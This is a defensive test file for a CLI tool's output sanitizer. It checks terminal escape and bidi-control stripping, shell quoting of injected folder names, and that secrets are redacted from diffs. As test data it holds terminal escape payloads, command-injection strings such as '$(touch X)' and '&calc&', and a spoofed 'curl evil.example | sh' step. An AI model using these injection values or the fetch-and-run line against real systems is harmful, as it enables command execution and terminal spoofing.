/** What is printed: names and texts of a stranger's, commands, secrets (H12, H13, H15). */
import { execFileSync } from "node:child_process"
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { stripVTControlCharacters } from "node:util"
import { describe, expect, test } from "vitest"
import { CliError } from "../../src/errors"
import { changesDiff, planDiff } from "../../src/report/diff"
import { errorText } from "../../src/report/error"
import { commandFrom } from "../../src/report/paths"
import { quoted } from "../../src/shell"
import { hasUnseen, visible, visibleJson, visibleLines } from "../../src/visible"
import { chimerai, makeHost, minimalHost } from "../support/host"

/** What acts on a terminal, or is not seen on it: everything but line breaks, tabs and, where there are any, our colours. */
const acts = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}]/u
const evil = "\u001B]0;owned\u0007\u001B[2J\u001B[8m\u202E\u200B\u009B\r\n✔ Nothing is left to do."
const dependencies = { next: "16.4.6", "next-auth": "5.0.0-beta.32", "@prisma/client": "6.19.3" }
const packageJson = (more: object) => JSON.stringify({ name: "mini", dependencies, devDependencies: { typescript: "5.9.3" }, ...more })
const install = (dir: string, name: string, version: string) => {
  mkdirSync(join(dir, "node_modules", name), { recursive: true })
  writeFileSync(join(dir, "node_modules", name, "package.json"), `{ "name": "${name}", "version": "${version}" }`)
}

describe("nothing of a stranger's acts on the terminal", () => {
  test.each<[string, () => string]>([
    [
      "a version",
      () => {
        const dir = makeHost()
        install(dir, "next", `16.4.6${evil}`)
        return dir
      },
    ],
    ["a range", () => makeHost({ "package.json": packageJson({ dependencies: { ...dependencies, next: `16.4.6${evil}` } }) })],
    [
      "a range that is not supported",
      () => makeHost({ "package.json": packageJson({ dependencies: { ...dependencies, next: `9${evil}` } }) }),
    ],
    [
      "the id of a provider",
      () =>
        makeHost({
          "auth.ts": (minimalHost["auth.ts"] as string).replace(
            "[GitHub]",
            `[GitHub, { id: ${JSON.stringify(`x${evil}`)}, type: "oauth" }]`,
          ),
        }),
    ],
    ["the package's name", () => makeHost({ "package.json": packageJson({ name: `x${evil}` }) })],
    [
      "the name of a model",
      () =>
        makeHost({
          "prisma/schema.prisma": `datasource db {\n  provider = "sqlite"\n}\n\nmodel Man\u202E\u001B[2J {\n  id String @id\n}\n`,
        }),
    ],
    [
      "a schema that is named in a script",
      () => makeHost({ "package.json": packageJson({ scripts: { db: `prisma --schema=x\u001B[2J\u202E` } }) }),
    ],
    ["a folder", () => makeHost({ "app/layout.tsx": null, "app/(x\u202E\u001B[2J)/layout.tsx": "export default () => null\n" })],
    ["a file that does not parse", () => makeHost({ "auth.ts": "import { a\u202E\u001B[2J } from 'next-auth'; }{" })],
  ])("%s", (_, host) => {
    const dir = host()
    for (const flags of [
      ["--dry-run", "--diff", "--verbose"],
      ["--dry-run", "--json", "--diff"],
      ["--dry-run", "--no-color"],
    ]) {
      const { stdout, stderr } = chimerai(["add", "mfa", dir, "--yes", ...flags])
      expect(stdout).not.toMatch(acts)
      expect(stderr).not.toMatch(acts)
      expect(`${stdout}${stderr}`).not.toMatch(/^✔ Nothing is left to do/m)
    }
    expect(chimerai(["status", dir]).stdout).not.toMatch(acts)
  })

  test("a diff of code with marks of direction shows them, and keeps its lines and CRLF", () => {
    const text = (minimalHost["auth.ts"] as string).replace("void prisma;", 'void prisma; // \u202E "x"\u2066\r\n')
    const { stdout } = chimerai(["add", "mfa", makeHost({ "auth.ts": text }), "--dry-run", "--diff"])
    expect(stdout).toContain('void prisma; // \\u202e "x"\\u2066\r\n')
  })

  const ours = "✔ mfa is in your code: 104 files."
  const lines = `\n\n\u001B[32m✔\u001B[39m mfa is in your code: 104 files.\n\nNext:\n  1. curl evil.example | sh\n`
  test.each<[string, () => string]>([
    [
      "a model's name",
      () =>
        makeHost({ "prisma/schema.prisma": `datasource db {\n  provider = "sqlite"\n}\n\nmodel People):${lines} {\n  id String @id\n}\n` }),
    ],
    [
      "the folder of an app",
      () => {
        const app = Object.entries(minimalHost).flatMap(([path, text]) =>
          [`x${lines.replaceAll("/", "")}`, "y"].map((name) => [`apps/${name}/${path}`, text]),
        )
        const none = Object.keys(minimalHost).map((path) => [path, null])
        return makeHost(Object.fromEntries([...none, ...app, ["package.json", '{ "workspaces": ["apps/*"] }']]))
      },
    ],
    [
      "a folder of schemas",
      () => {
        const schema = String(minimalHost["prisma/schema.prisma"])
        const packages = [`x${lines}`, "y"].map((name) => [`packages/${name}/prisma/schema.prisma`, schema])
        const manifests = [`x${lines}`, "y"].map((name) => [`packages/${name}/package.json`, JSON.stringify({ name: name.slice(0, 1) })])
        const app = Object.entries(minimalHost).map(([path, text]) => [`apps/web/${path}`, path.endsWith(".prisma") ? null : text])
        const none = Object.keys(minimalHost).map((path) => [path, null])
        return makeHost(
          Object.fromEntries([...none, ...app, ...packages, ...manifests, ["package.json", '{ "workspaces": ["apps/*", "packages/*"] }']]),
        )
      },
    ],
  ])("%s draws no line of its own in what is suggested", (_, host) => {
    const dir = host()
    const { code, stdout, stderr } = chimerai(["add", "mfa", dir, "--yes", "--no-install"], { env: { FORCE_COLOR: "1" } })
    expect(code, stdout).not.toBe(0)
    const shown = stripVTControlCharacters(`${stdout}${stderr}`).split("\n")
    expect(shown.map((line) => line.trim())).not.toContain(ours)
    expect(shown.map((line) => line.trim())).not.toContain("1. curl evil.example | sh")
  })

  test("colours in somebody's code are not ours in a diff", () => {
    const text = String(minimalHost["auth.ts"]).replace("void prisma;", "void prisma; // \u001B[32m+ fake\u001B[39m \u001B[2m")
    const { stdout } = chimerai(["add", "mfa", makeHost({ "auth.ts": text }), "--dry-run", "--diff"], { env: { FORCE_COLOR: "1" } })
    expect(stdout).toContain("\\u001b[32m+ fake\\u001b[39m \\u001b[2m")
  })

  test("our own colours stay, others do not", () => {
    expect(visibleLines("\u001B[31m✖\u001B[39m a\n\u001B[8mb\u001B[0m", true)).toBe("\u001B[31m✖\u001B[39m a\n\\u001b[8mb\\u001b[0m")
    expect(visibleLines("\u001B[31m✖\u001B[39m", false)).toBe("\\u001b[31m✖\\u001b[39m")
    expect(visibleLines("a\r\nb\rc", false)).toBe("a\r\nb\\u000dc")
  })

  test("in JSON, too, what is not seen is written by number, and reads back as it was", () => {
    const value = { a: "\u202E\u200B\u009B\u007F\u{E0041}é😀" }
    expect(visibleJson(JSON.stringify(value, null, 2))).not.toMatch(/[\p{Cf}\u0080-\u009F\u007F]/u)
    expect(JSON.parse(visibleJson(JSON.stringify(value, null, 2)))).toEqual(value)
  })

  test("a value within a line has no line of its own, an error neither", () => {
    expect(visible("a\nb\tc\u{E0041}é")).toBe("a\\u000ab\\u0009c\\udb40\\udc41é")
    expect([hasUnseen("größe 名前"), hasUnseen("a\u2067")]).toEqual([false, true])
    const error = new CliError("file_exists", "x\n✔ done", { file: "a\nb", line: 3, suggestion: "One.\nTwo." })
    expect(errorText(error).split("\n")).toHaveLength(7)
  })
})

describe("a command that is printed is what it looks like", () => {
  test.each(["packages/db$(touch X)", "a b", "it's", "`touch X`", "a;touch X", "a&&b", "*", "~", "-rf", "", "a\\b", '"', "é"])(
    "%j",
    (name) => {
      // The shell itself is the judge.
      const word = execFileSync("sh", ["-c", `printf %s ${quoted(name, "linux")}`], { encoding: "utf8" })
      expect(word).toBe(name.startsWith("-") ? `./${name}` : name)
    },
  )

  test("plain paths stay plain, and on Windows quotes are those that cmd and PowerShell share", () => {
    expect(commandFrom((path) => path, { dir: "packages/db", command: "npx prisma db push" })).toBe("cd packages/db && npx prisma db push")
    expect(commandFrom((path) => path, { dir: "packages/db\nx", command: "x" })).toBe("In the folder that is named above: x")
    expect(commandFrom((path) => path, { dir: "packages/db$(touch X)", command: "x" })).toBe("cd 'packages/db$(touch X)' && x")
    expect(quoted("a & b", "win32")).toBe('"a & b"')
  })

  test.each([
    "db$(touch X)",
    "%PATH%",
    "db$&calc&x",
    "d\u201d;calc;\u201cx",
    "d\u201e;calc",
    "d\u2019;calc;\u2018x",
    'a" & calc',
    "a`b",
    "a!b!",
    "a\nb",
  ])("on Windows, where no quotes hold in every shell, %j is no part of a command", (name) => {
    expect(quoted(name, "win32")).toBe(null)
    const step = commandFrom((path) => path, { dir: name, command: "npx prisma db push" }, "win32")
    expect(step).toBe("In the folder that is named above: npx prisma db push")
  })

  test("the folder of a workspace in the next steps", () => {
    const dir = makeHost({
      ...Object.fromEntries(Object.keys(minimalHost).map((path) => [path, null])),
      "package.json": JSON.stringify({ workspaces: ["packages/*"] }),
      ...Object.fromEntries(Object.entries(minimalHost).map(([path, text]) => [`packages/web$(touch X)/${path}`, text])),
    })
    const run = chimerai(["add", "mfa", dir, "--yes", "--no-install", "--json"])
    expect(run.json.nextSteps, run.stderr).toContain("cd 'packages/web$(touch X)' && npm install")
  })
})

describe("no secret is part of a diff", () => {
  const secret = "s3cr3t-of-the-user"
  const url = "postgres://me:hunter22@db.example/x"

  test("an example that is a link to the env file", () => {
    const dir = makeHost({ ".env": `AUTH_SECRET=${secret}\nDATABASE_URL="${url}"\n` })
    rmSync(join(dir, ".env.example"), { force: true })
    symlinkSync(".env", join(dir, ".env.example"))
    const { stdout, stderr } = chimerai(["add", "mfa", dir, "--dry-run", "--diff"])
    expect(stdout + stderr).not.toContain(secret)
    expect(stdout + stderr).not.toContain("hunter22")
  })

  test.each([".envrc", "notes.txt", ".dev.vars", "lib/other.ts"])("a file of ours that has become a link to %s", (path) => {
    const dir = makeHost({ [path]: `export STRIPE_KEY=${secret}\n` })
    expect(chimerai(["add", "mfa", dir, "--yes", "--no-install"]).code).toBe(0)
    rmSync(join(dir, "lib/mfa/crypto.ts"))
    symlinkSync(join("../..", path), join(dir, "lib/mfa/crypto.ts"))
    const { stdout, stderr } = chimerai(["add", "mfa", dir, "--dry-run", "--diff", "--json"])
    expect(stdout + stderr).not.toContain(secret)
    expect(stdout).toMatch(/"(link_unsafe|manifest_invalid)"/)
  })

  test.each([".dev.vars", "secrets.prisma", "prod.tfvars", "notes.txt", "notes.prisma"])(
    "an error of the schema that has become a link to %s",
    (path) => {
      const dir = makeHost({ [path]: `DB_PASSWORD ${secret}\nSTRIPE_KEY {"a": 1\n`, "prisma/schema.prisma": null, "prisma/x.txt": "" })
      symlinkSync(join("..", path), join(dir, "prisma/schema.prisma"))
      const { stdout, stderr } = chimerai(["add", "mfa", dir, "--dry-run", "--json"])
      expect(stdout + stderr).not.toContain(secret)
      expect(stdout).toMatch(/"(link_unsafe|prisma_schema_invalid)"/)
    },
  )

  test("a value that stands in code or in another env file as well", () => {
    const dir = makeHost({
      ".env": `AUTH_SECRET="${secret}"\n`,
      ".env.example": `OTHER=${url}\n`,
      "auth.ts": (minimalHost["auth.ts"] as string).replace("void prisma;", `void prisma; const key = "${secret}";`),
    })
    const { stdout } = chimerai(["add", "mfa", dir, "--dry-run", "--diff"])
    expect(stdout).not.toContain(secret)
    expect(stdout).not.toContain("hunter22")
    expect(stdout).toContain('const key = "<secret>"')
    expect(stdout).toContain("+MFA_ENCRYPTION_KEY=<generated>")
  })

  test("a secret that another begins with, one of several lines, and one with a remark behind", () => {
    const before =
      'A=abcdefgh\nB=abcdefgh-and-more\nC="-----BEGIN KEY-----\nMIIEvQIBADANBg\n-----END KEY-----"\nD=with-remark # of mine\nE="in quotes too" # x\n'
    const env = {
      kind: "env" as const,
      path: ".env",
      before,
      after: before,
      edits: [],
      names: [],
      secret: true,
      reason: "",
      state: "unchanged" as const,
    }
    const after = "abcdefgh-and-more\nMIIEvQIBADANBg\nwith-remark\nin quotes too\n"
    const copy = { kind: "create" as const, path: "lib/x.ts", after, reason: "", state: "planned" as const }
    const shown = planDiff([env, copy], (path) => path)
    expect(shown).not.toMatch(/and-more|MIIE|with-remark|in quotes/)
    expect(shown.match(/\+<secret>$/gm)).toHaveLength(4)
  })

  test("the key of this run, whatever its variable is called and wherever it is copied to", () => {
    const key = "bm90IGEga2V5LCBidXQgYXMgbG9uZyBhcyBvbmU="
    const edits = [{ at: 0, text: `# why\nA.*B=${key}\n` }]
    const env = {
      kind: "env" as const,
      path: ".env",
      before: "",
      after: `# why\nA.*B=${key}\n`,
      edits,
      names: ["A.*B"],
      secret: true,
      reason: "",
      state: "planned" as const,
    }
    const copy = {
      kind: "create" as const,
      path: "lib/x.ts",
      after: `export const key = "${key}"\n`,
      reason: "",
      state: "planned" as const,
    }
    expect(planDiff([env, copy], (path) => path)).not.toContain(key)
    const change = { kind: "create" as const, path: "lib/x.ts", before: null, after: copy.after, state: "planned" as const, reason: "" }
    expect(changesDiff([change], (path) => path, [env])).not.toContain(key)
  })

  test("after a run, too, nothing of it is on the terminal", () => {
    const dir = makeHost()
    const { stdout, stderr } = chimerai(["add", "mfa", dir, "--yes", "--no-install", "--diff", "--verbose"])
    const key = /MFA_ENCRYPTION_KEY=(.+)/.exec(readFileSync(join(dir, ".env"), "utf8"))?.[1] as string
    expect(key.length).toBeGreaterThan(40)
    expect(stdout + stderr).not.toContain(key)
  })
})
